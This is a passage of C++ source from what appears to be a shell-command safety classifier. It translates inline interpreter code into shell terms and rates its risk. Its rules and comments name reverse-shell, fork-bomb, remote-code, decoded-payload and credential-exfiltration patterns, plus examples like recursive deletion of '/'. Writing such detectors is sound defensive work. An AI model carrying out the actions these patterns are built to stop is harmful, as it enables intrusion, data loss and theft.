// SPDX-License-Identifier: MIT
// Rules for code reaching an interpreter by any road, and for data leaving
// the machine: inline Python/Node/Ruby/Perl/PHP/Lua/R code rated by what it
// targets (it is translated into the shell commands it amounts to, and those
// are rated), code fed on standard input (here-documents, here-strings,
// process substitution, pipes into `at`/`crontab`), packages fetched and run
// in one step, scripts downloaded and then run, and secrets sent to the
// network.
#include <cmath>
#include <cstdlib>
#include <cstring>
#include <string_view>
#include <utility>
#include <vector>

#include "common/split.h"
#include "safety/rule_util.h"

namespace cmdai::safety::detail {
namespace {

std::string Quote(const std::string& s) {
  if (s == "~") return "~";  // the home directory, as the program means it
  if (s.rfind("~/", 0) == 0) return "~/" + Quote(s.substr(2));
  std::string out = "'";
  for (char ch : s) out += ch == '\'' ? std::string("'\\''") : std::string(1, ch);
  return out + "'";
}

bool IsSpace(char ch) { return ch == ' ' || ch == '\t' || ch == '\n'; }

// Reads a string literal at s[i] ('…', "…", `…`); advances i past it.
bool ReadLiteral(const std::string& s, size_t& i, std::string* out) {
  if (i >= s.size() || (s[i] != '"' && s[i] != '\'' && s[i] != '`')) return false;
  const char q = s[i++];
  out->clear();
  while (i < s.size() && s[i] != q) {
    if (s[i] == '\\' && i + 1 < s.size()) {
      const char e = s[++i];
      *out += e == 'n' ? '\n' : e;
      ++i;
      continue;
    }
    *out += s[i++];
  }
  if (i >= s.size()) return false;
  ++i;
  return true;
}

// The first argument of a call at s[i] (just after the opening parenthesis):
// a string literal, a list of them (joined by spaces), or the home directory
// in its usual spellings. Empty when it is computed at run time.
std::string FirstArgument(const std::string& s, size_t i, bool* dynamic) {
  while (i < s.size() && IsSpace(s[i])) ++i;
  std::string lit;
  if (ReadLiteral(s, i, &lit)) return lit;
  if (i < s.size() && s[i] == '[') {  // ["rm", "-rf", "/"]
    ++i;
    std::string joined;
    while (i < s.size()) {
      while (i < s.size() && (IsSpace(s[i]) || s[i] == ',')) ++i;
      if (i < s.size() && s[i] == ']') return joined;
      if (!ReadLiteral(s, i, &lit)) break;
      joined += (joined.empty() ? "" : " ") + Quote(lit);
    }
    *dynamic = true;
    return "";
  }
  const std::string rest = s.substr(i, 64);
  for (const char* home :
       {"os.path.expanduser(\"~\")", "os.path.expanduser('~')", "os.environ[\"HOME\"]", "os.environ['HOME']",
        "os.getenv(\"HOME\")", "os.getenv('HOME')", "Path.home()", "pathlib.Path.home()", "process.env.HOME",
        "os.homedir()", "ENV[\"HOME\"]", "ENV['HOME']", "$ENV{HOME}", "Dir.home", "path.expand(\"~\")",
        "require(\"os\").homedir()", "require('os').homedir()", "Deno.env.get(\"HOME\")", "homedir"})
    if (rest.rfind(home, 0) == 0) return "~";
  for (const char* ctor : {"Path(", "pathlib.Path(", "new File("}) {
    if (rest.rfind(ctor, 0) == 0) {
      size_t k = i + std::strlen(ctor);
      while (k < s.size() && IsSpace(s[k])) ++k;
      if (ReadLiteral(s, k, &lit)) return lit;
    }
  }
  *dynamic = true;
  return "";
}

struct Call {
  const char* name;  // as written in the code, with the opening parenthesis
  enum { kShell, kShellWords, kArgv, kDeleteTree, kDeleteFile, kWrite, kTruncate, kChmod, kEffect } kind;
};

// What interpreter calls amount to in shell terms.
constexpr Call kCalls[] = {
    {"os.system(", Call::kShell},
    {"os.popen(", Call::kShell},
    {"subprocess.run(", Call::kShell},
    {"subprocess.call(", Call::kShell},
    {"subprocess.check_call(", Call::kShell},
    {"subprocess.check_output(", Call::kShell},
    {"subprocess.Popen(", Call::kShell},
    {"subprocess.getoutput(", Call::kShell},
    {"commands.getoutput(", Call::kShell},
    {"pty.spawn(", Call::kShell},
    {"execSync(", Call::kShell},
    {"exec(", Call::kShell},
    {"execFileSync(", Call::kShellWords},
    {"spawnSync(", Call::kShellWords},
    {"spawn(", Call::kShellWords},
    {"system(", Call::kShell},
    {"system ", Call::kShell},
    {"shell_exec(", Call::kShell},
    {"passthru(", Call::kShell},
    {"popen(", Call::kShell},
    {"proc_open(", Call::kShell},
    {"os.execute(", Call::kShell},
    {"io.popen(", Call::kShell},
    {"%x(", Call::kShell},
    {"qx(", Call::kShell},
    {"IO.popen(", Call::kShell},
    {"Open3.capture2(", Call::kShell},
    {"do shell script ", Call::kShell},
    {"shutil.rmtree(", Call::kDeleteTree},
    {"rmtree(", Call::kDeleteTree},
    {"remove_tree(", Call::kDeleteTree},
    {"rm_rf(", Call::kDeleteTree},
    {"rm_r(", Call::kDeleteTree},
    {"remove_dir(", Call::kDeleteTree},
    {"rmSync(", Call::kDeleteTree},
    {"rmdirSync(", Call::kDeleteTree},
    {"removeSync(", Call::kDeleteTree},
    {"Deno.remove(", Call::kDeleteTree},
    {"fs.rm(", Call::kDeleteTree},
    {"fs.rmdir(", Call::kDeleteTree},
    {"os.remove(", Call::kDeleteFile},
    {"os.unlink(", Call::kDeleteFile},
    {"os.rmdir(", Call::kDeleteFile},
    {"unlinkSync(", Call::kDeleteFile},
    {"File.delete(", Call::kDeleteFile},
    {"unlink(", Call::kDeleteFile},
    {"rmdir(", Call::kDeleteFile},
    {"FileUtils.rm(", Call::kDeleteFile},
    {"open(", Call::kWrite},
    {"writeFileSync(", Call::kWrite},
    {"File.write(", Call::kWrite},
    {"truncate(", Call::kTruncate},
    {"execv(", Call::kArgv},
    {"execvp(", Call::kArgv},
    {"execve(", Call::kArgv},
    {"execvpe(", Call::kArgv},
    {"execl(", Call::kArgv},
    {"execlp(", Call::kArgv},
    {"execle(", Call::kArgv},
    {"chmod(", Call::kChmod},
    {"chmodSync(", Call::kChmod},
    // Effects with no shell spelling worth building: each makes the code high.
    {"kill(", Call::kEffect},
    {"killpg(", Call::kEffect},
    {"rename(", Call::kEffect},
    {"renames(", Call::kEffect},
    {"renameSync(", Call::kEffect},
    {"makedirs(", Call::kEffect},
    {"mkdir(", Call::kEffect},
    {"symlink(", Call::kEffect},
    {"symlinkSync(", Call::kEffect},
    {"putenv(", Call::kEffect},
    {"setuid(", Call::kEffect},
    {"setgid(", Call::kEffect},
    {"chown(", Call::kEffect},
    {"binding(", Call::kEffect},
    {"_linkedBinding(", Call::kEffect},
    {"dlopen(", Call::kEffect},
    {"getBuiltinModule(", Call::kEffect},
    {"writeReport(", Call::kEffect},
    {"umask(", Call::kEffect},
};

// Inline code with its aliases spelled out: `s = random._os.system; s("…")`
// becomes `random._os.system("…")`, so the call is translated like any other.
std::string ExpandAliases(const std::string& code) {
  std::string out = code;
  auto ident = [](char ch) { return std::isalnum(static_cast<unsigned char>(ch)) || ch == '_' || ch == '$'; };
  for (size_t eq = code.find('='); eq != std::string::npos; eq = code.find('=', eq + 1)) {
    if ((eq + 1 < code.size() && (code[eq + 1] == '=' || code[eq + 1] == '>')) ||
        (eq > 0 && std::strchr("=!<>+-*/%&|^:", code[eq - 1])))
      continue;
    size_t e = eq;
    while (e > 0 && IsSpace(code[e - 1])) --e;
    size_t b = e;
    while (b > 0 && ident(code[b - 1])) --b;
    if (b == e || std::isdigit(static_cast<unsigned char>(code[b]))) continue;
    const std::string name = code.substr(b, e - b);
    size_t v = eq + 1;
    while (v < code.size() && IsSpace(code[v])) ++v;
    size_t w = v;
    while (w < code.size() && (ident(code[w]) || std::strchr(".[]\"'", code[w]))) ++w;
    const std::string chain = code.substr(v, w - v);
    const size_t dot = chain.rfind('.');
    if (dot == std::string::npos || chain.empty() || chain.back() == ']') continue;
    const std::string callee = chain + "(";
    bool known = false;
    for (const Call& call : kCalls)
      known |= callee.size() >= std::strlen(call.name) &&
               callee.compare(callee.size() - std::strlen(call.name), std::string::npos, call.name) == 0;
    if (!known) continue;
    std::string rewritten;
    for (size_t p = 0; p < out.size();) {
      if (out.compare(p, name.size(), name) == 0 && (p == 0 || !ident(out[p - 1])) && p + name.size() < out.size()) {
        size_t k = p + name.size();
        while (k < out.size() && IsSpace(out[k])) ++k;
        if (k < out.size() && out[k] == '(' && (p == 0 || out[p - 1] != '.')) {
          rewritten += chain;
          p = k;
          continue;
        }
      }
      rewritten += out[p++];
    }
    out = rewritten;
  }
  return out;
}

// Whether the call at s[p] writes: open(P, "w"), open(F, ">P").
bool OpensForWriting(const std::string& s, size_t args) {
  const size_t close = s.find(')', args);
  const std::string inside = s.substr(args, close == std::string::npos ? 200 : close - args);
  for (const char* m : {"\"w", "'w", "\"a", "'a", "\"x", "'x", "\"r+", "'r+", "\">", "'>", "O_WRONLY", "O_RDWR"})
    if (inside.find(m) != std::string::npos) return true;
  return false;
}

// Translates inline interpreter code into the shell commands it amounts to,
// for the classifier to rate. Returns whether any call was understood.
bool TranslateCode(RuleInput& in, const std::string& written, bool* writes_only) {
  const std::string code = ExpandAliases(written);
  bool any = false, other = false;
  std::string shell;
  for (const Call& call : kCalls) {
    const std::string name = call.name;
    for (size_t p = code.find(name); p != std::string::npos; p = code.find(name, p + 1)) {
      if (p > 0 && (std::isalnum(static_cast<unsigned char>(code[p - 1])) || code[p - 1] == '_') &&
          name.find('.') == std::string::npos && name != "spawn(" && name != "exec(")
        continue;  // part of a longer name
      bool dynamic = false;
      size_t args = p + name.size();
      std::string arg = FirstArgument(code, args, &dynamic);
      if (call.kind == Call::kWrite) {
        const bool always = name == "writeFileSync(" || name == "File.write(";  // they write whatever the mode
        if (dynamic || !(always || OpensForWriting(code, args))) continue;
        if (!arg.empty() && arg[0] == '>') arg = arg.substr(arg.find_first_not_of(">+"));
        shell += ": > " + Quote(arg) + "\n";
        any = true;
        continue;
      } else if (call.kind == Call::kEffect) {
        any = other = true;
        continue;
      } else if (call.kind == Call::kTruncate && !dynamic) {
        shell += ": > " + Quote(arg) + "\n";
      } else if (call.kind == Call::kChmod && !dynamic) {
        size_t k = code.find(',', args);
        std::string mode;
        for (k = k == std::string::npos ? code.size() : k + 1; k < code.size() && IsSpace(code[k]);) ++k;
        if (code.compare(k, 2, "0o") == 0) k += 2;
        while (k < code.size() && code[k] >= '0' && code[k] <= '7') mode += code[k++];
        shell += "chmod " + (mode.empty() ? std::string("777") : mode) + " -- " + Quote(arg) + "\n";
      } else if (call.kind == Call::kArgv && !dynamic) {
        // execvp("sh", ["sh", "-c", "…"]), execl("/bin/sh", "sh", "-c", "…"): the words after the path.
        size_t k = args;
        std::string lit, words;
        ReadLiteral(code, k, &lit);
        while (k < code.size() && (IsSpace(code[k]) || code[k] == ',')) ++k;
        bool more_dynamic = false;
        if (k < code.size() && code[k] == '[') {
          words = FirstArgument(code, k, &more_dynamic);
        } else {
          while (ReadLiteral(code, k, &lit)) {
            words += (words.empty() ? "" : " ") + Quote(lit);
            while (k < code.size() && (IsSpace(code[k]) || code[k] == ',')) ++k;
          }
        }
        shell += (words.empty() ? Quote(arg) : words) + "\n";
      } else if (dynamic && !(call.kind == Call::kShellWords && code.find("args:", args) != std::string::npos &&
                              code.find("args:", args) < code.find('}', args))) {
        if (call.kind != Call::kWrite) any = true;  // computed at run time: the inline-code finding covers it
        continue;
      } else if (call.kind == Call::kShell) {
        shell += arg + "\n";
      } else if (call.kind == Call::kShellWords) {
        // spawnSync("rm", ["-rf", "/"]): the program, then its arguments.
        size_t k = args;
        std::string lit;
        while (k < code.size() && IsSpace(code[k])) ++k;
        const size_t list = code.find("args:", args);
        if (k < code.size() && code[k] == '{' && list != std::string::npos && list < code.find('}', args)) {
          // process.binding("spawn_sync").spawn({file: "/bin/sh", args: ["sh", "-c", "…"]})
          size_t l = list + 5;
          while (l < code.size() && IsSpace(code[l])) ++l;
          bool more_dynamic = false;
          shell += FirstArgument(code, l, &more_dynamic) + "\n";
        } else if (ReadLiteral(code, k, &lit)) {
          while (k < code.size() && (IsSpace(code[k]) || code[k] == ',')) ++k;
          bool more_dynamic = false;
          std::string rest = code[k] == '[' ? FirstArgument(code, k, &more_dynamic) : "";
          shell += Quote(lit) + " " + rest + "\n";
        } else {
          shell += arg + "\n";
        }
      } else if (call.kind == Call::kDeleteTree) {
        const std::string after = code.substr(args, 120);
        const bool recursive = (name != "rmSync(" && name != "fs.rm(" && name != "fs.rmdir(" && name != "rmdirSync(" &&
                                name != "removeSync(" && name != "Deno.remove(") ||
                               after.find("recursive") != std::string::npos;
        shell += std::string(recursive ? "rm -r -f -- " : "rm -f -- ") + Quote(arg) + "\n";
      } else {
        const bool recursive = code.substr(args, 120).find("recursive") != std::string::npos;
        shell += std::string(recursive ? "rm -r -f -- " : "rm -f -- ") + Quote(arg) + "\n";
      }
      any = true;
      other = true;
    }
  }
  // Backticks in Ruby, Perl and PHP run shell commands.
  for (size_t p = code.find('`'); p != std::string::npos;) {
    const size_t e = code.find('`', p + 1);
    if (e == std::string::npos) break;
    shell += code.substr(p + 1, e - p - 1) + "\n";
    any = other = true;
    p = code.find('`', e + 1);
  }
  // pathlib: Path("/").rglob("*") … .unlink(): every file under that root.
  if (code.find(".unlink()") != std::string::npos || code.find(".rmdir()") != std::string::npos) {
    for (const char* ctor : {"Path(\"", "Path('"}) {
      const size_t p = code.find(ctor);
      if (p == std::string::npos) continue;
      bool dynamic = false;
      const std::string root = FirstArgument(code, p + 5, &dynamic);
      if (!dynamic)
        shell += (code.find("rglob") != std::string::npos ? "rm -r -f -- " : "rm -f -- ") + Quote(root) + "\n";
      any = other = true;
    }
  }
  if (!shell.empty() && in.code) in.code->push_back({shell, in.cmd.start, in.cmd.end});
  *writes_only = any && !other;
  return any;
}

bool Has(const std::string& hay, std::initializer_list<const char*> needles) {
  for (const char* n : needles)
    if (hay.find(n) != std::string::npos) return true;
  return false;
}

// --- what the pure-code check does not model ----------------------------------
//
// IsHarmlessInlineCode (read_only_profiles.cc) denies the obvious names (os,
// sys, require, eval…) but the modules it lets through re-export dangerous
// ones under other names: random._os is the os module, collections._sys.modules
// holds every module, json.codecs.open opens files for writing, and Node's
// `process` object spawns (binding), loads native code (dlopen) and kills.
// Code is pure only when every name it reaches is modelled, so this second
// look refuses, whatever the module: a private name (`_os`, `_linkedBinding`),
// a module re-exported as an attribute (codecs, copyreg, enum), a name that
// acts (system, spawn*, exec*, remove, unlink, kill, chmod, write*, truncate,
// symlink, putenv…), Node's `process` used for anything but its read-only
// facts, a lookup by a computed name (process["ki"+"ll"], methodcaller), Perl's
// `do FILE`; and code that may never end or exhaust memory (while loops,
// itertools.count, 9**9**9, [0]*10**12).
enum class Unproven { kNo, kUnbounded, kUnmodelled, kDynamicLookup };

bool ActingName(std::string_view id) {
  static const char* kExact[] = {"system",       "popen",          "remove",      "removedirs",
                                 "unlink",       "rmtree",         "rmdir",       "rename",
                                 "renames",      "chmod",          "lchmod",      "fchmod",
                                 "chown",        "lchown",         "fchown",      "kill",
                                 "killpg",       "truncate",       "ftruncate",   "symlink",
                                 "link",         "putenv",         "unsetenv",    "setuid",
                                 "setgid",       "seteuid",        "setegid",     "setreuid",
                                 "setgroups",    "initgroups",     "makedirs",    "mkdir",
                                 "mkfifo",       "mknod",          "fork",        "forkpty",
                                 "dup2",         "chdir",          "chroot",      "utime",
                                 "touch",        "dlopen",         "binding",     "getBuiltinModule",
                                 "mainModule",   "abort",          "umask",       "startfile",
                                 "fdopen",       "codecs",         "copyreg",     "enum",
                                 "modules",      "methodcaller",   "attrgetter",  "import_module",
                                 "load_module",  "rmSync",         "Worker",      "WebSocket",
                                 "localStorage", "sessionStorage", "EventSource", "dlsym",
                                 "cdll",         "CDLL",           "pty",         "signal",
                                 "raise_signal"};
  for (const char* n : kExact)
    if (id == n) return true;
  for (const char* prefix : {"spawn", "exec", "write", "appendFile", "posix_", "chmod"})
    if (id.rfind(prefix, 0) == 0) return true;
  return id.size() > 1 && id[0] == '_';  // random._os, collections._sys, process._linkedBinding
}

// log10 of the number literal at s[i] (0 for hex, octal, binary); advances i past it.
double NumberLog10(const std::string& s, size_t& i) {
  if (s.compare(i, 2, "0x") == 0 || s.compare(i, 2, "0o") == 0 || s.compare(i, 2, "0b") == 0) {
    i += 2;
    while (i < s.size() && (std::isxdigit(static_cast<unsigned char>(s[i])) || s[i] == '_')) ++i;
    return 0;
  }
  std::string text;
  while (i < s.size() && (std::isdigit(static_cast<unsigned char>(s[i])) || s[i] == '_'))
    if (s[i++] != '_') text += s[i - 1];
  if (i + 1 < s.size() && s[i] == '.' && std::isdigit(static_cast<unsigned char>(s[i + 1])))
    for (text += s[i++]; i < s.size() && std::isdigit(static_cast<unsigned char>(s[i]));) text += s[i++];
  if (i + 1 < s.size() && (s[i] == 'e' || s[i] == 'E') &&
      (std::isdigit(static_cast<unsigned char>(s[i + 1])) || s[i + 1] == '+' || s[i + 1] == '-')) {
    text += s[i++];
    if (s[i] == '+' || s[i] == '-') text += s[i++];
    while (i < s.size() && std::isdigit(static_cast<unsigned char>(s[i]))) text += s[i++];
  }
  const double v = std::strtod(text.c_str(), nullptr);
  if (!(v < 1e300)) return 300;
  return v <= 1 ? 0 : std::log10(v);
}

// Whether the number spanning s[start, end) sizes something: a repetition
// ([0]*N, "x"*N), a range or an allocation.
bool SizesSomething(const std::string& s, size_t start, size_t end) {
  size_t b = start;
  while (b > 0 && IsSpace(s[b - 1])) --b;
  if (b > 0 && s[b - 1] == '*' && (b < 2 || s[b - 2] != '*')) return true;
  if (b > 1 && s[b - 1] == 'x' && IsSpace(s[b - 2])) return true;  // Perl's "a" x N
  for (const char* call :
       {"range(", "repeat(", "Array(", "alloc(", "allocUnsafe(", "fill(", "padStart(", "padEnd(", "xrange("})
    if (b >= std::strlen(call) && s.compare(b - std::strlen(call), std::strlen(call), call) == 0) return true;
  size_t k = end;
  while (k < s.size() && IsSpace(s[k])) ++k;
  if (k < s.size() && s[k] == '*' && (k + 1 >= s.size() || s[k + 1] != '*')) return true;
  return s.compare(k, 6, ".times") == 0 || s.compare(k, 5, ".upto") == 0 || s.compare(k, 2, "..") == 0 ||
         s.compare(k, 2, " x") == 0;
}

Unproven UnprovenPureCode(const std::string& interp, const std::string& code, std::string* why) {
  const bool python = interp.rfind("python", 0) == 0 || interp.rfind("pypy", 0) == 0;
  const bool node = interp == "node" || interp == "nodejs";
  const bool perl = interp == "perl";
  const std::string quotes = node ? "\"'`" : (python ? "\"'" : "\"'/");
  Unproven worst = Unproven::kNo;
  auto note = [&](Unproven u, const std::string& text) {
    if (u > worst) worst = u, *why = text;
  };
  std::vector<std::pair<double, size_t>> chain;  // bases of a power being read: 9**9**9
  for (size_t i = 0; i < code.size();) {
    const char ch = code[i];
    if (quotes.find(ch) != std::string::npos) {
      // A string literal: data, except as a computed name: process["ki"+"ll"].
      const bool subscript = i > 0 && code[i - 1] == '[';
      const char q = ch;
      for (++i; i < code.size() && code[i] != q; ++i)
        if (code[i] == '\\') ++i;
      ++i;
      size_t k = i;
      while (k < code.size() && IsSpace(code[k])) ++k;
      if (subscript && k < code.size() && code[k] == '+')
        note(Unproven::kDynamicLookup, "looks a name up from pieces of text");
      continue;
    }
    if (python && ch == '#') {
      while (i < code.size() && code[i] != '\n') ++i;
      continue;
    }
    if (std::isdigit(static_cast<unsigned char>(ch)) &&
        (i == 0 || !(std::isalnum(static_cast<unsigned char>(code[i - 1])) || code[i - 1] == '_'))) {
      const size_t start = i;
      const double lg = NumberLog10(code, i);
      size_t k = i;
      while (k < code.size() && IsSpace(code[k])) ++k;
      if (code.compare(k, 2, "**") == 0) {  // a base: the exponent comes next
        chain.push_back({lg, start});
        continue;
      }
      double value = lg;  // base ** (base ** … value), right to left
      size_t expr_start = start;
      for (auto it = chain.rbegin(); it != chain.rend(); ++it) {
        value = std::pow(10.0, std::min(value, 12.0)) * it->first;
        expr_start = it->second;
      }
      chain.clear();
      if (value >= 100000)
        note(Unproven::kUnbounded, "computes a number with more digits than memory comfortably holds");
      else if (value >= 8 && SizesSomething(code, expr_start, i))
        note(Unproven::kUnbounded, "builds or walks through hundreds of millions of items");
      continue;
    }
    if (std::isalpha(static_cast<unsigned char>(ch)) || ch == '_' || ch == '$') {
      size_t j = i;
      while (j < code.size() && (std::isalnum(static_cast<unsigned char>(code[j])) || code[j] == '_' || code[j] == '$'))
        ++j;
      const std::string id = code.substr(i, j - i);
      size_t k = j;
      while (k < code.size() && IsSpace(code[k])) ++k;
      if (id == "while" || id == "until" || id == "loop" || id == "redo" || id == "goto" ||
          (python && (id == "count" || id == "cycle" || id == "repeat") && code.find("itertools") != std::string::npos))
        note(Unproven::kUnbounded, "may run without end");
      else if (id == "do" && perl && (k >= code.size() || code[k] != '{'))
        note(Unproven::kUnmodelled, "do FILE runs the code in another file");
      else if (node && id == "process") {
        std::string attr;
        if (k < code.size() && code[k] == '.') {
          size_t a = k + 1;
          while (a < code.size() && (std::isalnum(static_cast<unsigned char>(code[a])) || code[a] == '_')) ++a;
          attr = code.substr(k + 1, a - k - 1);
        }
        static const char* kFacts[] = {"version", "versions", "platform", "arch",   "pid",         "ppid",
                                       "argv",    "argv0",    "uptime",   "cwd",    "memoryUsage", "hrtime",
                                       "release", "env",      "stdout",   "stderr", "exitCode",    "execPath",
                                       "config",  "features", "title",    "exit"};
        bool fact = false;
        for (const char* f : kFacts) fact |= attr == f;
        if (!fact) note(Unproven::kUnmodelled, "uses the process object beyond its read-only facts");
        if (k < code.size() && code[k] == '[') note(Unproven::kDynamicLookup, "looks a name up on process at run time");
      } else if ((python || node) &&
                 (ActingName(id) ||
                  (id == "open" && i > 0 &&
                   code[i - 1] == '.') ||  // json.codecs.open
                                           // open passed around (f=open; f(…), map(open, …), [open][0](…)):
                                           // its mode is no longer where the check for writes reads it.
                  (python && id == "open" && !(k < code.size() && code[k] == '(')))) {
        note(Unproven::kUnmodelled, "reaches '" + id + "', which cmdai does not know to be pure");
      }
      chain.clear();
      i = j;
      continue;
    }
    if (node && (code.compare(i, 7, "for(;;)") == 0 || code.compare(i, 8, "for (;;)") == 0))
      note(Unproven::kUnbounded, "may run without end");
    if (!IsSpace(ch) && ch != '*') chain.clear();
    ++i;
  }
  return worst;
}

}  // namespace

bool IsCodeInterpreter(const std::string& n) {
  return n.rfind("python", 0) == 0 || n.rfind("pypy", 0) == 0 || n == "node" || n == "nodejs" || n == "deno" ||
         n == "bun" || n == "ruby" || n == "perl" || n == "php" || n == "lua" || n == "luajit" || n == "Rscript" ||
         n == "R" || n == "tclsh" || n == "osascript" || n == "pwsh";
}

void InterpreterCode(RuleInput& in, const std::string& code, const std::string& where) {
  const SimpleCommand& c = in.cmd;
  const std::string lower = Lower(code);
  const bool socket = Has(lower, {"socket", "tcpsocket", "net.connect", "io::socket", "fsockopen", "/dev/tcp"});
  const bool spawn = Has(lower, {"subprocess", "pty.spawn", "os.dup2", "/bin/sh", "/bin/bash", "exec(", "system(",
                                 "popen", "child_process", "spawn(", "cmd.exe", "proc_open"});
  if (socket && spawn) {
    Add(in, "net.reverse-shell", Risk::kCritical, c.name + " code connects a shell to the network (a reverse shell)");
    return;
  }
  const bool loops = Has(lower, {"while", "loop", "for(;;)", "for (;;)", "until"});
  if (Has(lower, {"fork while fork", "while(1){fork", "while 1: os.fork", "fork() while", "while true; do fork"}) ||
      (loops && Has(lower, {"fork", "os.fork", "process.fork"}))) {
    Add(in, "process.fork-bomb", Risk::kCritical, c.name + " code forks without end (a fork bomb)");
    return;
  }
  const bool runs = Has(lower, {"exec(", "eval(", "eval ", "compile(", "iex", "invoke-expression", "system(",
                                "execsync(", "instance_eval", "function("});
  if (runs && Has(lower, {"urlopen", "requests.get", "urllib", "fetch(", "http.get", "net::http", "lwp::", "curl",
                          "downloadstring", "invoke-webrequest", "iwr ", "net.webclient", "wget"})) {
    Add(in, "exec.remote-code", Risk::kCritical, c.name + " code downloads code and runs it");
    return;
  }
  if (runs && Has(lower, {"b64decode", "base64", "decode(", "fromcharcode", "unhexlify", "codecs.decode", "zlib",
                          "atob(", "frombase64string", "buffer.from("})) {
    Add(in, "exec.decoded-code", Risk::kCritical, c.name + " code decodes hidden code and runs it");
    return;
  }
  std::string unproven;
  if (IsHarmlessInlineCode(c.name, code)) {  // print(2+2): it only computes, unless a second look says otherwise
    const Unproven u = UnprovenPureCode(c.name, code, &unproven);
    if (u == Unproven::kNo) return;
    if (u == Unproven::kUnbounded) {
      Add(in, "exec.inline-code", Risk::kModerate, c.name + " code " + where + " " + unproven + ": it may not end");
      return;
    }
    if (u == Unproven::kDynamicLookup)
      Add(in, "exec.inline-code", Risk::kHigh,
          c.name + " code " + where + " " + unproven +
              ": it can reach any function, including ones that delete or run");
  }
  bool writes_only = false;
  const bool translated = TranslateCode(in, code, &writes_only);
  if (writes_only && !Has(lower, {"system", "subprocess", "exec", "eval", "popen", "`"})) {
    Add(in, "exec.inline-code", Risk::kModerate, c.name + " code " + where + " writes files");
    return;
  }
  if (translated || Has(lower, {"rmtree",        "os.remove",  "os.unlink",   "unlink(",  "rm_rf",       "rm -rf",
                                "fs.rm",         "rmdirsync",  "file.delete", "os.rmdir", "shutil.move", "truncate(",
                                "os.system",     "subprocess", "system(",     "exec(",    "eval(",       "popen",
                                "child_process", "`",          "os.execute"})) {
    Add(in, "exec.inline-code", Risk::kHigh, c.name + " code " + where + " deletes files or runs other programs");
    return;
  }
  if (Has(lower, {"urlopen", "requests.", "urllib", "http.client", "socket", "fetch(", "net::http"}) &&
      Has(lower, {"open(", "read(", "environ", "expanduser", ".ssh", ".aws"})) {
    Add(in, "net.exfiltrate", Risk::kHigh, c.name + " code reads local data and sends it over the network");
    return;
  }
  Add(in, "exec.inline-code", Risk::kModerate,
      "runs " + c.name + " code " + where +
          (unproven.empty() ? "" : " that " + unproven + ": its effect is not known"));
}

void CodeRules(RuleInput& in) {
  const SimpleCommand& c = in.cmd;
  const std::string& n = c.name;
  const ParsedScript& s = in.script;

  // npx, uvx, pipx run, pnpm dlx, bunx: fetch a package and run it at once.
  const std::string sub = c.args.empty() ? "" : c.args[0].text;
  if (n == "npx" || n == "uvx" || n == "bunx" || n == "pnpx" || (n == "pipx" && sub == "run") ||
      ((n == "pnpm" || n == "yarn") && sub == "dlx") || (n == "npm" && (sub == "exec" || sub == "x")) ||
      (n == "uv" && sub == "tool" && c.args.size() > 1 && c.args[1].text == "run")) {
    if (!OnlyAsksForHelp(c))
      Add(in, "exec.fetched-package", Risk::kHigh,
          n + " downloads a package and runs its code in one step, without review");
    return;
  }
  // Installs from a URL or a repository rather than the registry.
  if ((n == "pip" || n == "pip3" || n == "npm" || n == "pnpm" || n == "yarn" || n == "cargo" || n == "gem" ||
       n == "go" || n == "uv") &&
      Any(sub, {"install", "i", "add"}))
    for (const auto& w : c.args)
      if (w.text.find("://") != std::string::npos || w.text.rfind("git+", 0) == 0 || w.text == "--git" ||
          w.text.rfind("github:", 0) == 0) {
        Add(in, "pkg.from-url", Risk::kHigh, n + " installs code straight from " + w.text + ", bypassing the registry",
            w.start, w.end);
        return;
      }

  // deno run https://…, bun run https://…: code fetched and run at once.
  if ((n == "deno" || n == "bun") && !c.args.empty())
    for (const auto& w : c.args)
      if (w.text.find("://") != std::string::npos) {
        Add(in, "exec.remote-code", Risk::kCritical, n + " runs code straight from " + w.text, w.start, w.end);
        return;
      }
  // make -f /dev/stdin <<< 'all:\n\tCMD': the recipes are shell code.
  if ((n == "make" || n == "gmake") && !c.stdin_text.empty() && in.code)
    for (size_t i = 0; i + 1 < c.args.size(); ++i)
      if (c.args[i].text == "-f" && (c.args[i + 1].text == "-" || c.args[i + 1].text == "/dev/stdin")) {
        std::string recipes;
        for (std::string_view line : Split(c.stdin_text, '\n'))
          if (!line.empty() && line[0] == '\t') {
            recipes += line.substr(1);
            recipes += '\n';
          }
        if (!recipes.empty()) in.code->push_back({recipes, c.start, c.end});
      }
  // Variables that make the interpreter itself load or run other code:
  // PYTHONHOME=/tmp/evil (the standard library), PYTHONINSPECT=1 (an
  // interactive prompt reading standard input after the code).
  if (IsCodeInterpreter(n))
    for (const std::string& a : c.assignments) {
      const std::string name = a.substr(0, a.find('='));
      if (Any(name, {"PYTHONHOME",
                     "PYTHONINSPECT",
                     "PYTHONUSERBASE",
                     "PYTHONPLATLIBDIR",
                     "PYTHONEXECUTABLE",
                     "PYTHONWARNINGS",
                     "PYTHONBREAKPOINT",
                     "PYTHONSTARTUP",
                     "PYTHONPATH",
                     "NODE_OPTIONS",
                     "NODE_PATH",
                     "NODE_REPL_EXTERNAL_MODULE",
                     "PERL5OPT",
                     "PERL5LIB",
                     "PERLLIB",
                     "PERL5DB",
                     "RUBYOPT",
                     "RUBYLIB",
                     "LUA_INIT",
                     "LUA_PATH",
                     "LUA_CPATH",
                     "PHP_INI_SCAN_DIR",
                     "PHPRC"})) {
        Add(in, "exec.variable", Risk::kHigh, name + " makes " + n + " load or run code other than the command's");
        break;
      }
    }
  // python -m json.tool IN OUT: writes OUT.
  if (n.rfind("python", 0) == 0 && in.code)
    for (size_t i = 0; i + 1 < c.args.size(); ++i)
      if (c.args[i].text == "-m" && c.args[i + 1].text == "json.tool") {
        std::vector<const Word*> files;
        for (size_t k = i + 2; k < c.args.size(); ++k) {
          const std::string& t = c.args[k].text;
          if (t == "--indent") {
            ++k;
            continue;
          }
          if (t.empty() || t[0] != '-' || t == "-") files.push_back(&c.args[k]);
        }
        if (files.size() >= 2 && files[1]->text != "-") {
          if (files[1]->dynamic)
            Add(in, "write.file", Risk::kModerate, "python -m json.tool writes its output to " + files[1]->text,
                files[1]->start, files[1]->end);
          else
            in.code->push_back({": > " + Quote(files[1]->text), c.start, c.end});
        }
        break;
      }
  // python -m http.server: serves a directory to the network.
  if (n.rfind("python", 0) == 0 && HasArg(c, "-m") && (HasArg(c, "http.server") || HasArg(c, "SimpleHTTPServer"))) {
    std::string dir = c.cwd;
    for (size_t i = 0; i + 1 < c.args.size(); ++i)
      if (c.args[i].text == "--directory" || c.args[i].text == "-d") dir = c.args[i + 1].text;
    PathKind k = ClassifyPath(dir.empty() ? "." : dir, false, "").kind;
